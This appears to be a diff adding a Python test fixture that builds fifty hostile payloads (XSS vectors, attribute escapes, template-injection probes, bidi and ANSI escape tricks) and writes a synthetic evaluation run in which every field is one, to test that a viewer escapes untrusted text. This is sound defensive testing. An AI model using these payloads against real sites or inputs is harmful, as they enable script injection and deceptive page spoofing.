@@ -1,0 +1,111 @@
+"""Fifty payloads that try to run, to break the layout or to mislead, and a run whose every text and name is one.
+
+A payload that runs sets window.__hacked or raises a dialog; one that becomes an element carries data-hostile; one
+that fetches asks hostile.invalid. Tests look for all three.
+"""
+
+import itertools
+import json
+
+RUN = "window.__hacked=1;alert(1)"
+ELEMENTS = [
+    f"<script data-hostile>{RUN}</script>",
+    f"<ScRiPt data-hostile>{RUN}</sCrIpT >",
+    f"</script><script data-hostile>{RUN}</script>",
+    '<script data-hostile src="https://hostile.invalid/x.js"></script>',
+    f'<img data-hostile src=x onerror="{RUN}">',
+    f"<img data-hostile src='x' onerror='{RUN}'//",
+    '<img data-hostile src="https://hostile.invalid/pixel.png">',
+    f"<svg data-hostile onload={RUN}><circle r=9 /></svg>",
+    f"<svg data-hostile><script>{RUN}</script></svg>",
+    f'<svg data-hostile><animate onbegin="{RUN}" attributeName=x dur=1s>',
+    f"<math data-hostile><mtext><style><img src=x onerror={RUN}></style></mtext></math>",
+    f'<iframe data-hostile srcdoc="<script>parent.__hacked=1</script>" onload="{RUN}"></iframe>',
+    f'<iframe data-hostile src="javascript:{RUN}"></iframe>',
+    f'<object data-hostile data="javascript:{RUN}"></object><embed data-hostile src="javascript:{RUN}">',
+    f'<a data-hostile href="javascript:{RUN}">click</a>',
+    f'<a data-hostile href="  jAva&#x73;cript:{RUN}">click</a>',
+    f'<form data-hostile action="javascript:{RUN}"><button autofocus onfocus="{RUN}">send</button></form>',
+    f'<input data-hostile autofocus onfocus="{RUN}">',
+    f'<details data-hostile open ontoggle="{RUN}"><summary>x</summary></details>',
+    f'<video data-hostile><source onerror="{RUN}"></video>',
+    f'<body data-hostile onload="{RUN}" onpageshow="{RUN}">',
+    f'<style data-hostile>@keyframes x {{}}</style><p data-hostile style="animation: x 1s" onanimationstart="{RUN}">',
+    "<style data-hostile>* { display: none !important }</style>",
+    '<link data-hostile rel="stylesheet" href="https://hostile.invalid/x.css">',
+    '<meta data-hostile http-equiv="refresh" content="0; url=https://hostile.invalid/">',
+    '<base data-hostile href="https://hostile.invalid/">',
+    f'<textarea data-hostile></textarea><img data-hostile src=x onerror="{RUN}">',
+    '<dialog data-hostile open style="position:fixed;inset:0;background:red">Your session has ended</dialog>',
+]
+ESCAPES = [
+    f'"><img data-hostile src=x onerror="{RUN}">',
+    f"' onmouseover='{RUN}' data-hostile='",
+    f'" autofocus onfocus="{RUN}" data-hostile="',
+    f"`-{RUN}-`",
+    f"</div></details></table></style></title></textarea><img data-hostile src=x onerror={RUN}>",
+    f"--><img data-hostile src=x onerror={RUN}><!--",
+    f"]]><img data-hostile src=x onerror={RUN}>",
+    f"&lt;img data-hostile src=x onerror={RUN}&gt; &amp;lt; &#60;script&#62; &notanentity; &#xZZ; &",
+    f"%3Cimg%20data-hostile%20src=x%20onerror={RUN}%3E \\u003cscript\\u003e \\x3cscript\\x3e",
+    "{{ 7 * 7 }} {% raw %} {{ self.__init__.__globals__ }} ${7*7} #{7*7} <%= 7*7 %>",
+    f"[click](javascript:{RUN}) ![x](https://hostile.invalid/pixel.png) <javascript:{RUN}>",
+    f"$\\href{{javascript:{RUN}}}{{x}}$ $$\\require{{html}}\\class{{x}}{{y}}$$ \\unicode{{x}}",
+    "```\n</code></pre># Heading\n| a | b |\n| --- | --- |\n> quote\n---",
+    f"data:text/html,<script data-hostile>{RUN}</script>",
+]
+MISLEADING = [
+    "safe \u202e)txt.exe( \u2066hidden\u2069 \u202dleft\u202c \u200f\u061c",
+    "שלום <b data-hostile>עולם</b> مرحبا 123 abc",
+    "\x1b[31mred\x1b[0m \x1b[2J\x1b]8;;https://hostile.invalid\x07link\x1b]8;;\x07 \x9b1m",
+    "\x00null\x08\x08\x08\x7f\r\roverwritten\x0b\x0c\x85\ufeff\u200b\u2060\U000e0041",
+    "Z̴̡̢̛͚̥̻̭͓͖̲̣̹͕̱͕̦̟̓̾̊̔̓͆̽͌͊̎̓̕͝a̸l" + "\u0301" * 400,
+    "W" * 20_000,
+    f"{'long line with spaces ' * 5_000}<img data-hostile src=x onerror={RUN}>",
+    "\n" * 500 + "far below" + "\t" * 500,
+]
+PAYLOADS = ELEMENTS + ESCAPES + MISLEADING
+assert len(PAYLOADS) == len(set(PAYLOADS)) == 50
+
+
+def name(number):
+    "A payload as a name, short enough for an operating system, unique and without what SQLite can't hold."
+    return f"{number} {PAYLOADS[number][:200]}"
+
+
+def write(folder):
+    """A run of 50 dialogues of 2 turns; every message, reason and name is a payload, two judges disagree on each."""
+    from anthrokit import Behaviour, Run
+
+    run, many = Run(folder), range(len(PAYLOADS))
+    judges = [name(number) for number in (4, 42)]
+    behaviours = [
+        Behaviour(name(number), "category " + name(number), PAYLOADS[number], PAYLOADS[number]) for number in many
+    ]
+    run.set_facts(behaviours=[vars(one) for one in behaviours], targets={name(0): {"model": PAYLOADS[4]}})
+    prompts, dialogues, messages, ratings = [], [], [], []
+    for number in many:
+        text, names = PAYLOADS[number], name(number)
+        shared = {"domain": names, "scenario": names, "category": names, "behaviour": names, "base_prompt": text}
+        prompts.append({"prompt_id": names, "base_id": f"base {names}", "first_message": text, **shared})
+        about = {"dialogue_id": names, "prompt_id": names, "target": name(number % 3), "user": names, "persona": names}
+        about |= {"repeat": 1, "turns": 2, "status": "failed", "reason": text}
+        dialogues.append({**about, "system_user": text, "system_target": text})
+        for turn, role in itertools.product((1, 2), ("user", "assistant")):
+            said = {"reasoning": text, "finish_reason": "length", "role_flip": 1, "served_model": text, "error": text}
+            messages.append({"dialogue_id": names, "turn": turn, "role": role, "content": text, **said})
+        for turn, (place, judge), sample in itertools.product((1, 2), enumerate(judges), (1, 2)):
+            verdict = (place + sample * (number % 2)) % 2 if number % 5 else 1
+            key = {"dialogue_id": names, "turn": turn, "behaviour": names, "judge": judge, "sample": sample}
+            ratings.append({**key, "verdict": verdict, "explanation": text, "raw": text, "status": "ok"})
+    rows = {"samples": 2, "counted": 0, "behaviours": json.dumps([one.name for one in behaviours])}
+    run.write("prompts", prompts)
+    run.write("dialogues", dialogues)
+    run.write("messages", messages)
+    run.write(
+        "judges",
+        [{"judge": judge, "position": place, "settings": json.dumps({"model": judge}), "hash": "x", **rows}
+         for place, judge in enumerate(judges)],
+    )
+    run.write("ratings", ratings)
+    return run
